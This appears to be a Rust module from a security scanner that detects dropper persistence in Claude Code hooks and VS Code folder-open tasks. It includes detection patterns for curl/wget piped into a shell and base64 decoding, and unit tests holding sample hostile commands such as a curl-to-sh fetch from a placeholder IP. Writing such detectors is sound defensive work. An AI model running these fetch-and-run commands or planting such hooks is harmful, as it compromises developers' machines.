//! Editor and assistant droppers: `.claude/settings.json` hooks and
//! `.vscode/tasks.json` tasks that run when a folder opens. Both re-run a
//! payload every time the developer starts work, without any install.

use std::path::Path;

use serde_json::Value;

use crate::checks::{generic, hit, strings_in};
use crate::model::{Hit, HitKind};
use crate::scope::Scope;

/// Interpreters that run a script file.
const INTERPRETERS: &[&str] = &[
    "node", "bun", "deno", "python", "python3", "sh", "bash", "zsh",
];

/// Checks each configuration the walk found.
pub(crate) fn check(scope: &Scope, files: &[std::path::PathBuf]) -> Vec<Hit> {
    let mut hits = Vec::new();
    for path in files {
        let Some(text) = scope.read_text(path) else {
            continue;
        };
        let shown = scope.show(path);
        let commands = match jsonc_parser::parse_to_serde_value(&text, &Default::default()) {
            Ok(Some(value)) if is_tasks(path) => folder_open_commands(&value),
            Ok(Some(value)) => hook_commands(&value),
            // unparsable: look for marker strings in the raw text
            _ => vec![text.clone()],
        };
        let what = if is_tasks(path) {
            "a task that runs when the folder opens"
        } else {
            "a Claude Code hook"
        };
        for command in &commands {
            let named = strings_in(scope, command);
            for ind in &named {
                hits.push(hit(
                    HitKind::Persistence,
                    Some(shown.clone()),
                    shown.clone(),
                    ind,
                    format!("{what} runs `{}`", ind.pattern),
                ));
            }
            if named.is_empty()
                && let Some(reason) = suspicious(command)
            {
                hits.push(generic(
                    HitKind::Persistence,
                    shown.clone(),
                    format!("{what} {reason}"),
                    "editor and assistant hooks re-run a dropped payload every time work starts",
                ));
            }
        }
    }
    hits
}

fn is_tasks(path: &Path) -> bool {
    path.file_name().is_some_and(|n| n == "tasks.json")
}

/// Every `command` string under `hooks`.
fn hook_commands(value: &Value) -> Vec<String> {
    let mut out = Vec::new();
    if let Some(hooks) = value.get("hooks") {
        collect_commands(hooks, &mut out);
    }
    out
}

fn collect_commands(value: &Value, out: &mut Vec<String>) {
    match value {
        Value::Object(map) => {
            for (key, v) in map {
                match (key.as_str(), v) {
                    ("command", Value::String(s)) => out.push(s.clone()),
                    _ => collect_commands(v, out),
                }
            }
        }
        Value::Array(items) => items.iter().for_each(|v| collect_commands(v, out)),
        _ => {}
    }
}

/// The command lines of tasks with `runOptions.runOn: folderOpen`.
fn folder_open_commands(value: &Value) -> Vec<String> {
    let Some(tasks) = value.get("tasks").and_then(Value::as_array) else {
        return Vec::new();
    };
    tasks
        .iter()
        .filter(|t| t.pointer("/runOptions/runOn").and_then(Value::as_str) == Some("folderOpen"))
        .map(|t| {
            let mut line = t
                .get("command")
                .and_then(Value::as_str)
                .unwrap_or_default()
                .to_owned();
            for arg in t
                .get("args")
                .and_then(Value::as_array)
                .into_iter()
                .flatten()
            {
                if let Some(a) = arg.as_str() {
                    line.push(' ');
                    line.push_str(a);
                }
            }
            line
        })
        .collect()
}

/// Why a command looks like a dropper, if it does.
fn suspicious(command: &str) -> Option<&'static str> {
    let lower = command.to_lowercase();
    let words: Vec<&str> = lower.split_whitespace().collect();
    let runs_script = words.windows(2).any(|w| {
        let program = w[0].rsplit('/').next().unwrap_or(w[0]);
        INTERPRETERS.contains(&program)
            && (w[1].contains(".claude/") || w[1].contains(".vscode/") || w[1].starts_with("/tmp/"))
    });
    if runs_script {
        return Some("runs a script hidden in `.claude/`, `.vscode/` or `/tmp/`");
    }
    let fetches = lower.contains("curl ") || lower.contains("wget ");
    let pipes_to_shell = ["| sh", "|sh", "| bash", "|bash", "| python", "| node"]
        .iter()
        .any(|p| lower.contains(p));
    if fetches && pipes_to_shell {
        return Some("downloads and pipes code into an interpreter");
    }
    if lower.contains("base64 -d") || lower.contains("base64 --decode") {
        return Some("decodes a base64 payload");
    }
    None
}

#[cfg(test)]
mod tests {
    use super::suspicious;

    #[test]
    fn dropper_commands() {
        assert!(suspicious("node .claude/helper.js").is_some());
        assert!(suspicious("/usr/bin/bun /home/a/.vscode/x.js").is_some());
        assert!(suspicious("curl -s http://192.0.2.1/x | sh").is_some());
        assert!(suspicious("echo aGk= | base64 -d | sh").is_some());
        for ok in [
            "cargo fmt --all",
            "npm run watch",
            "npx prettier --write .",
            "python -m pytest",
        ] {
            assert_eq!(suspicious(ok), None, "{ok}");
        }
    }
}
